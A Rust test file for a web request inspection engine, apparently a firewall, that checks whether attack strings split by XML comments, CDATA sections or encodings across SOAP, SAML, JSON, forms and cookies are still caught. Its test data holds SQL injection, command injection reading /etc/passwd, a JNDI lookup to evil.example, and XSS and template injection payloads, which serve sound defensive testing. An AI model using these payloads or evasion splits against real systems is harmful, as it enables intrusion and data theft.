//! XML, JSON and GraphQL documents.

use super::{FORM, JSON, MULTIPART, assert_clean, assert_payload, escaped, part, signatures, typed};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use engine::mutate::empty_request;
use flate2::{Compression, write::DeflateEncoder};
use shared::InspectRequest;
use std::io::Write;

/// What ends a token of text in XML, and what follows it.
const SPLITS: &[(&str, &str)] = &[
    ("<![CDATA[", "]]>"),
    ("<!-- -->", ""),
    ("<?p?>", ""),
    ("<!--a--><?b?><![CDATA[", "]]><!--c-->"),
    ("<b/>", "<c></c>"),
    ("<b>", "</b>"),
];

#[test]
fn split_texts_of_xml_are_joined() {
    for (before, payload, after) in [
        ("' o", "r 1", "=1--"),
        (";c", "at /et", "c/passwd"),
        ("${jn", "di:ld", "ap://evil.example/a}"),
        ("&lt;img src=x on", "error=aler", "t(1)>"),
    ] {
        for (open, close) in SPLITS {
            let text = format!("{before}{open}{payload}{close}{after}");
            for document in [
                format!("<a>{text}</a>"),
                format!("<a>\n  <q>{text}</q>\n</a>"),
                format!("<?xml version=\"1.0\"?><a><q>x</q><q>{text}</q></a>"),
                // Without its end.
                format!("<a><q>{text}"),
            ] {
                assert_payload(&typed("text/xml", document.clone()), &document);
            }
        }
    }
    let around = typed("text/xml", "<a>' o<b>x</b>r 1=1--</a>");
    assert_payload(&around, "texts around an element");
    let nested = "<?xml version=\"1.0\"?><a>' o<![CDATA[r 1]]>=1--</a>";
    let query = InspectRequest { query: format!("x={}", escaped(nested)), ..empty_request("GET") };
    assert_payload(&query, "in a parameter");
}

#[test]
fn split_texts_without_an_attack_pass() {
    for (open, close) in SPLITS {
        for text in ["Alice", "O'", "a > b & "] {
            let document =
                format!("<a><q>{text}{open} and Bob's{close} garden</q></a>").replace('&', "&amp;");
            assert_clean(&typed("text/xml", document.clone()), &document);
        }
    }
}

/// What splits a text of markup but an element.
const MARKS: &[(&str, &str)] = &[
    ("<![CDATA[", "]]>"),
    ("<!-- x -->", ""),
    ("<?p?>", ""),
    ("<!---->", "<!-- a --><?b?>"),
    ("<!--a--><?b?><![CDATA[", "]]><!--c-->"),
];

fn in_query(name: &str, value: &str) -> InspectRequest {
    InspectRequest { query: format!("{name}={}", escaped(value)), ..empty_request("GET") }
}

fn deflated(text: &str) -> String {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(text.as_bytes()).unwrap();
    STANDARD.encode(encoder.finish().unwrap())
}

fn entities(markup: &str) -> String {
    markup.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

/// The places that hold a document: what each is called, and the request.
fn places(document: &str) -> Vec<(&'static str, InspectRequest)> {
    let soap = |inner: &str| {
        format!(
            "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>{inner}</s:Body></s:Envelope>"
        )
    };
    let section = format!("<![CDATA[{}]]>", document.replace("]]>", "]]]]><![CDATA[>"));
    let form = |name: &str, value: &str| typed(FORM, format!("a=1&{name}={}", escaped(value)));
    let json = |value: &str| typed(JSON, serde_json::json!({ "id": 7, "doc": [value] }).to_string());
    let cookie = |value: &str| InspectRequest {
        headers: vec![("cookie".to_owned(), format!("a=1; d={}", escaped(value)))],
        ..empty_request("GET")
    };
    vec![
        ("a part of XML", typed(MULTIPART, part("Content-Type: application/xml", document))),
        (
            "a part of SOAP",
            typed(MULTIPART, part("Content-Type: application/soap+xml; charset=utf-8", document)),
        ),
        ("a part of text", typed(MULTIPART, part("Content-Type: text/plain", document))),
        (
            "a part in base64",
            typed(
                MULTIPART,
                part(
                    "Content-Type: text/xml\r\nContent-Transfer-Encoding: base64",
                    STANDARD.encode(document),
                ),
            ),
        ),
        ("a body", typed("text/plain", document)),
        ("a form", form("x", document)),
        ("a form after blanks", form("x", &format!("{}{document}", " \n".repeat(400)))),
        ("a query", in_query("x", document)),
        ("JSON", json(document)),
        ("JSON in a form", form("x", &serde_json::json!({ "doc": document }).to_string())),
        ("a cookie", cookie(document)),
        ("a SAML response", form("SAMLResponse", &STANDARD.encode(document))),
        ("a SAML request", in_query("SAMLRequest", &deflated(document))),
        (
            "a SAML response in JSON",
            typed(JSON, format!("{{\"SAMLResponse\":\"{}\"}}", STANDARD.encode(document))),
        ),
        ("a section of SOAP", typed("text/xml", soap(&format!("<q>{section}</q>")))),
        ("escaped in SOAP", typed("text/xml", soap(&format!("<q>{}</q>", entities(document))))),
        ("escaped twice", form("x", &format!("<q>{}</q>", entities(&entities(document))))),
        ("escaped in an undeclared document", json(&format!("<q>{}</q>", entities(document)))),
    ]
}

#[test]
fn split_texts_are_joined_wherever_a_document_stands() {
    let saml = "<saml2p:Response ID='a' Version=\"2.0\" ";
    for (before, payload, after) in [
        ("1 UNI", "ON SEL", "ECT 1,2,3"),
        ("' o", "r 1", "=1--"),
        (";c", "at /et", "c/passwd"),
        ("$(i", "d", ")"),
    ] {
        for (open, close) in MARKS {
            let text = format!("{before}{open}{payload}{close}{after}");
            for document in [
                format!("<a>{text}</a>"),
                format!("<!-- a --><order><id>7</id><note lang=\"en\">{text}</note></order>"),
                format!(
                    "{saml}{}='1' xmlns:saml2p='urn:a'><saml2p:NameID>{text}</saml2p:NameID></saml2p:Response>",
                    "b".repeat(400)
                ),
            ] {
                for (place, request) in places(&document) {
                    assert_payload(&request, &format!("{place}: {document}"));
                }
            }
        }
    }
}

#[test]
fn split_texts_are_joined_without_a_document() {
    for (open, close) in MARKS {
        let text = format!("1 UNI{open}ON SEL{close}ECT 1,2,3");
        for value in
            [text.clone(), format!("x {text}</a>"), format!("<p>x<br>{text}"), format!("a < b {text}")]
        {
            assert_payload(&typed(FORM, format!("x={}", escaped(&value))), &value);
        }
    }
}

#[test]
fn documents_with_comments_and_sections_pass_wherever_they_stand() {
    for document in [
        "<saml2p:Response xmlns:saml2p=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_a1\" Version=\"2.0\">\
         <!-- signed --><saml2:Assertion xmlns:saml2=\"urn:oasis:names:tc:SAML:2.0:assertion\"><saml2:Subject>\
         <saml2:NameID>o'brien<!-- at work -->@shop.example</saml2:NameID></saml2:Subject></saml2:Assertion>\
         </saml2p:Response>",
        "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><m:Order xmlns:m=\"urn:m\">\
         <m:note>Two <![CDATA[& a half]]> of them<!-- ok --></m:note><m:id>17</m:id></m:Order></s:Body></s:Envelope>",
        "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>Shop</title><item><title><![CDATA[It's here: \
         chairs or tables?]]></title><description><![CDATA[<p>Some <b>text</b></p>]]>, and more</description></item>\
         </channel></rss>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><desc><![CDATA[one & two]]></desc>\
         <text>one <tspan>two</tspan> three<!-- note --> four</text></svg>",
        "<order><!-- from the app --><id>7</id><note>Bob's <![CDATA[table & 4 chairs]]>, or <?pi a?>more</note></order>",
        "<!-- wp:paragraph --><p>The spade is <!-- really -->of ash<br>and it's <em>old</em>.</p><!-- /wp:paragraph -->\
         <!-- wp:list --><ul><li>5 < 6 & 7<!-- --> kg</li></ul><!-- /wp:list -->",
        "<div data-reactroot=\"\">Total: <!-- -->5<!-- --> of <!-- -->10</div>",
        "Describe the bug <!-- what happened? -->\nIt doesn't start.<!-- or -->\nSteps: 1, 2",
    ] {
        for (place, request) in places(document) {
            assert_clean(&request, &format!("{place}: {document}"));
        }
    }
}

#[test]
fn feeds_and_pages_with_many_sections_pass() {
    let item = |number: usize| {
        format!(
            "<item><title><![CDATA[Post {number}: it's here]]></title><link>https://shop.example/p/{number}</link>\
             <description><![CDATA[<p>Some <b>text</b> of post {number}]]]]><![CDATA[></p>]]></description></item>"
        )
    };
    let items: String = (0..3_000).map(item).collect();
    let feed = format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>Shop</title>{items}</channel></rss>"
    );
    assert_clean(&typed("application/rss+xml", feed), "RSS");
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><style><![CDATA[.a{fill:red}]]></style>\
               <text>one <tspan>two</tspan> three<!-- note --> four</text></svg>";
    assert_clean(&typed("image/svg+xml", svg), "SVG");
    let soap = "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><m:Order><m:note>\
                Two <![CDATA[& a half]]> of them<!-- ok --></m:note><m:id>17</m:id></m:Order></s:Body></s:Envelope>";
    assert_clean(&typed("application/soap+xml", soap), "SOAP");
}

#[test]
fn texts_that_are_joined_at_many_levels_are_reported() {
    let document = format!("{}{}{}", "<a>x".repeat(100), "y".repeat(200_000), "</a>".repeat(100));
    assert!(signatures(&typed("text/xml", document)).iter().any(|it| it.starts_with("overlimit-bytes")));
    // A page of paragraphs with marks in them is not.
    let paragraph = "<p>It <b>is <i>some</i> text</b> of <a href='/x'>the page</a>.</p>\n";
    let page = format!("<html><body><div>{}</div></body></html>", paragraph.repeat(10_000));
    assert_clean(&typed("application/xhtml+xml", page), "XHTML");
}

/// What lenient JSON parsers skip before a document.
const SKIPPED: &[&str] =
    &["/* a */", "// a\n", "/**//**/ ", ")]}'\n", ")]}',\n", "\u{feff}\u{feff}", "\u{feff}/* a */\u{feff}"];

#[test]
fn what_parsers_skip_before_json_hides_nothing() {
    for before in SKIPPED {
        for payload in ["{{7*7}}", "' or 1=1--", ";cat /etc/passwd"] {
            for (content_type, document) in [
                (JSON, format!("{before}{{\"a\":\"{payload}\"}}")),
                ("text/plain", format!("{before}[\"{payload}\"]")),
                (FORM, format!("x={}", escaped(format!("{before}{{\"a\":\"{payload}\"}}")))),
            ] {
                assert_payload(&typed(content_type, document.clone()), &document);
            }
        }
        assert_clean(&typed(JSON, format!("{before}{{\"a\":\"words\",\"b\":[1,true,null]}}")), before);
    }
}

#[test]
fn comments_and_bare_words_of_json_and_graphql_are_inspected() {
    for value in [
        "{/*$(cat /etc/passwd)*/\"a\":1}",
        "{\"a\":1}//;cat /etc/passwd",
        "[1] waitfor delay [2]",
        "query { a # $(cat /etc/passwd)\n }",
    ] {
        assert_payload(&typed(FORM, format!("x={}", escaped(value))), value);
    }
    for value in
        ["{/* a note */\"a\":1}", "{\"a\":1} // the end", "[1, 2.5e3, null, true]", "query { a # the id\n }"]
    {
        assert_clean(&typed(FORM, format!("x={}", escaped(value))), value);
    }
}
